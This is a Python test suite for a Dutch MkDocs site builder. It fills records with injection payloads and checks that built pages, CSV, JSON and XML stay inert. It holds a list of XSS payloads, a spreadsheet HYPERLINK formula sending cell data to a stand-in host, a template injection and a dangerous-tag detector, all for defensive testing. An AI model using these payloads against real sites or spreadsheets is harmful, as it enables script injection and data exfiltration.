"""Text from the data cannot become code: every text field of one record of each kind is filled with attacks.

The rules are put aside here, so that this holds even for what they would let through; the second half shows what they
refuse.
"""

from __future__ import annotations

import csv
import json
import re
import typing
from html.parser import HTMLParser
from pathlib import Path
from types import UnionType
from xml.etree import ElementTree

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config

import macros.site.bouw
from macros.catalogue.catalogus import Catalogus
from macros.fields.deel import Deel
from macros.fields.record import Record
from macros.fields.velden import Tekst, Titel
from macros.kinds import SOORTEN
from macros.kinds.begrip import Begrip
from macros.kinds.document import Document
from tests.conftest import bevindingen
from tests.project import kopieer

AANVALLEN = {
    "formule": '=HYPERLINK("https://kwaad.example/?"&A1;"klik")',
    "script": "<script>aanval()</script>",
    "script-uit-json": "</script><script>aanval()</script>",
    "gebeurtenis": "<img src=x onerror=aanval()>",
    "svg": "<svg onload=aanval()><animate onbegin=aanval()></svg>",
    "kader": "<iframe srcdoc='<script>aanval()</script>'></iframe>",
    "uit-attribuut": "\" onmouseover=\"aanval()\" x=\"' onfocus='aanval()' autofocus='",
    "uit-commentaar": "--><script>aanval()</script><!--blok:0-->",
    "link": "[klik](javascript:aanval())",
    "link-met-verwijzing": "<javascript:aanval()> [a]: javascript:aanval()",
    "data-adres": "[klik](data:text/html,<script>aanval()</script>)",
    "plaatje": '![x](x"onerror="aanval())',
    "jinja": "{{ 7 * 191 }} {% raw %} {{ config.site_dir }} {# weg #}",
    "plek-in-kader": "%%kader:inhoud%%",
    "markdown": "**vet** `code` ~~~ # kop {: onclick=aanval() }",
    "omkering": "\u202eaanval",
}
REGEL = " ".join(AANVALLEN.values())
ALINEAS = REGEL + '\n\n    <script>aanval()</script>\n\n<div markdown="1">\n\n' + "\n".join(AANVALLEN.values())
_TEKSTEN = {Titel: REGEL, Tekst: ALINEAS}


def _gevuld(waarde, soort):
    """``waarde``, with an attack for every text that a field of this kind can hold."""
    if soort in _TEKSTEN:
        return _TEKSTEN[soort]
    if typing.get_origin(soort) in (typing.Union, UnionType):
        keuzes = [s for s in typing.get_args(soort) if s is not type(None)]
        return _gevuld(waarde, keuzes[0]) if len(keuzes) == 1 else waarde
    if typing.get_origin(soort) is list:
        (van,) = typing.get_args(soort)
        return [_TEKSTEN[van]] if van in _TEKSTEN else [_gevuld(w, van) for w in waarde]
    if isinstance(waarde, Deel):
        val_aan(waarde)
    return waarde


def val_aan(deel: Deel) -> None:
    """Fill the texts of ``deel`` in place: records know their parts as the same objects."""
    soorten = typing.get_type_hints(type(deel), include_extras=True)
    for naam in type(deel).model_fields:
        deel.__dict__[naam] = _gevuld(getattr(deel, naam), soorten[naam])


def _slachtoffers(catalogus: Catalogus) -> list[Record]:
    """Of each kind the record that says most, and the term that the home page explains within a sentence."""
    meeste = [max(records, key=lambda r: len(r.model_dump_json())) for s in SOORTEN if (records := catalogus.alle(s))]
    return [*meeste, catalogus.geef(Begrip, "regiovisie")]


@pytest.fixture(scope="module")
def aanval(tmp_path_factory):
    """The site, built from data full of attacks that no rule looked at; its catalogue and the attacked records."""
    site = tmp_path_factory.mktemp("aanval") / "site"
    echt = macros.site.bouw.laad
    gezien = {}

    def laad(*delen):
        lading = echt(*delen)
        gezien["slachtoffers"] = _slachtoffers(lading.catalogus)
        for record in gezien["slachtoffers"]:
            val_aan(record)
            if record.soort.naam in ("gemeente", "document", "punt"):
                record.__dict__["vroegere_ids"] = ["zo-heette-het"]
        gezien["catalogus"] = lading.catalogus
        return lading

    with pytest.MonkeyPatch.context() as wijzig:
        wijzig.setattr(macros.site.bouw, "laad", laad)
        wijzig.setattr(macros.site.bouw, "controleer", lambda *_: [])
        wijzig.setenv("SITE_URL", "https://voorbeeld.nl/regiovisie/")
        wijzig.setenv("OPSLAG", "https://github.com/voorbeeld/regiovisie")
        build(load_config(str(kopieer(site.parent / "project") / "mkdocs.yml"), site_dir=str(site)))
    return site, gezien["catalogus"], gezien["slachtoffers"]


class _Lezer(HTMLParser):
    """What a page is made of that could run or lead away."""

    GEVAARLIJK: typing.ClassVar = {"iframe", "object", "embed", "base", "animate", "style", "frame", "math"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.fout: list[str] = []
        self.tekst: list[str] = []

    def handle_starttag(self, tag, attrs):
        waarden = dict(attrs)
        if tag in self.GEVAARLIJK:
            self.fout.append(f"<{tag}>")
        if tag == "img" and not re.match(r"(\.\./)*beeld/", waarden.get("src") or ""):
            self.fout.append("<img>")
        if tag == "script" and "src" not in waarden and waarden.get("type") != "application/ld+json":
            self.fout.append("<script>")
        for naam, waarde in attrs:
            if naam.startswith("on") or naam in ("style", "srcdoc", "autofocus"):
                self.fout.append(f"<{tag} {naam}>")
            gevolgd = naam in ("href", "src", "action", "xlink:href")
            if gevolgd and re.match(r"\s*(javascript|data|vbscript):", waarde or "", re.I):
                self.fout.append(f"<{tag} {naam}={waarde[:40]}>")

    def handle_data(self, data):
        self.tekst.append(data)


def test_geen_pagina_krijgt_een_element_of_attribuut_van_een_aanval(aanval):
    site, _, _ = aanval
    geraakt = 0
    for pad in site.rglob("*.html"):
        html = pad.read_text("utf-8")
        lezer = _Lezer()
        lezer.feed(html)
        assert lezer.fout == [], pad
        tekst = "".join(lezer.tekst)
        assert "1337" not in tekst, f"{pad}: een sjabloon in de gegevens is uitgevoerd"
        assert str(site) not in tekst, pad
        geraakt += "aanval()" in html
    assert geraakt > 100, "de aanvallen staan niet op de pagina's, dus is er niets bewezen"


def test_de_aanval_staat_als_gewone_tekst_op_de_pagina_van_elk_slachtoffer(aanval):
    site, _, slachtoffers = aanval
    for record in slachtoffers:
        pad = site / record.pagina / "index.html"
        if record.soort.zoeken is None:
            continue  # only in the search bundles
        lezer = _Lezer()
        lezer.feed(pad.read_text("utf-8"))
        tekst = "".join(lezer.tekst).replace("\xad", "").replace("\u200b", "")
        assert AANVALLEN["script"] in tekst, pad
        assert AANVALLEN["plek-in-kader"] in tekst, pad
        assert "{{ 7 * 191 }}" in tekst, pad


def test_een_browser_voert_niets_uit(aanval, chromium):
    site, _, slachtoffers = aanval
    context = chromium.new_context()
    geraakt = []
    context.expose_function("aanval", lambda: geraakt.append("aanval"))
    pagina = context.new_page()
    pagina.route("**/*", lambda route: route.fulfill(path=_bestand(site, route.request.url)))
    van_records = {r.pagina for r in slachtoffers}
    for pad in sorted(van_records | {"", "raadplegen/", "bijdragen/hiaten/"}):
        pagina.goto(f"https://site.test/{pad}")
        pagina.evaluate("() => document.querySelectorAll('details').forEach((d) => { d.open = true; })")
    pagina.goto("https://site.test/zoeken/")
    pagina.get_by_label("Wat zoekt u?").fill("klik vet")
    pagina.get_by_role("heading", name=re.compile("resulta|gevonden")).wait_for()
    assert pagina.locator("iframe, [onerror], [onload], a[href^='javascript:' i]").count() == 0
    context.close()
    assert geraakt == []


def _bestand(site: Path, adres_: str) -> Path:
    pad = site / adres_.split("site.test/", 1)[1].split("?")[0].split("#")[0]
    return pad / "index.html" if pad.is_dir() else pad if pad.exists() else site / "404.html"


def test_een_rekenblad_rekent_niets_uit(aanval):
    """The data package is for programs, which take a text as it is: no one opens it with a double click."""
    site, _, _ = aanval
    bestanden = [pad for pad in site.rglob("*.csv") if pad.parent.name != "tabellen"]
    assert len(bestanden) > 5
    geraakt = 0
    for pad in bestanden:
        tekst = pad.read_text("utf-8-sig")
        geraakt += "HYPERLINK" in tekst
        for rij in csv.reader(tekst.splitlines(keepends=True), delimiter=";" if ";" in tekst.split("\n")[0] else ","):
            for cel in rij:
                assert not cel.startswith(("=", "+", "@", "\t", "\r")), f"{pad}: {cel[:60]}"
                assert not re.match(r"-(?!\d+([.,]\d+)?$)", cel), f"{pad}: {cel[:60]}"
    assert geraakt > 3


def test_gegevens_voor_programmas_blijven_letterlijk(aanval):
    site, _, _ = aanval
    assert any(
        AANVALLEN["script"] in json.dumps(json.loads(p.read_text("utf-8")), ensure_ascii=False)
        for p in site.glob("api/v1/*.json")
    )
    for pad in site.rglob("*.json"):
        json.loads(pad.read_text("utf-8"))
    for pad in (*site.rglob("*.xml"), *site.rglob("*.svg")):
        ElementTree.fromstring(pad.read_bytes())


def test_een_oud_adres_wijst_de_weg_zonder_script_en_zonder_in_zoekmachines_te_komen(aanval):
    site, catalogus, _ = aanval
    verhuisd = catalogus.vroegere_adressen()
    visie = next(r for r in catalogus.alle(Document) if "zo-heette-het" in r.vroegere_ids)
    oud = f"regios/{visie.herkomst.regio}/zo-heette-het/"
    assert verhuisd[oud] == visie.adres
    assert any(v.startswith(oud) and v != oud for v in verhuisd), "ook wat onder het document staat is verhuisd"
    for van, naar in verhuisd.items():
        html = (site / van / "index.html").read_text("utf-8")
        heen = "../" * van.count("/") + naar
        assert f'<meta http-equiv="refresh" content="0; url={heen}">' in html
        assert f'<a href="{heen}">' in html
        assert (site / van / heen / "index.html").resolve() == (site / naar / "index.html").resolve()
        assert '<meta name="robots" content="noindex">' in html
        assert "default-src 'none'" in html
        assert "<script" not in html


ONSCHADELIJK = {"uit-attribuut", "plek-in-kader"}
"""What the rules need not refuse, because it means nothing on a page."""


@pytest.mark.parametrize("naam", AANVALLEN)
def test_de_regels_weigeren_wat_op_code_lijkt(gegevens, naam):
    pad = gegevens / "landelijk/themas.yml"
    tekst = pad.read_text("utf-8")
    uitleg = json.dumps(f"Uitleg {AANVALLEN[naam]}", ensure_ascii=False)
    pad.write_text(tekst.replace("uitleg: Een plek om veilig te slapen.", f"uitleg: {uitleg}"), encoding="utf-8")
    fouten = [b for b in bevindingen(gegevens) if ": fout[" in b and "themas.yml:4:" in b]
    assert bool(fouten) is (naam not in ONSCHADELIJK), fouten
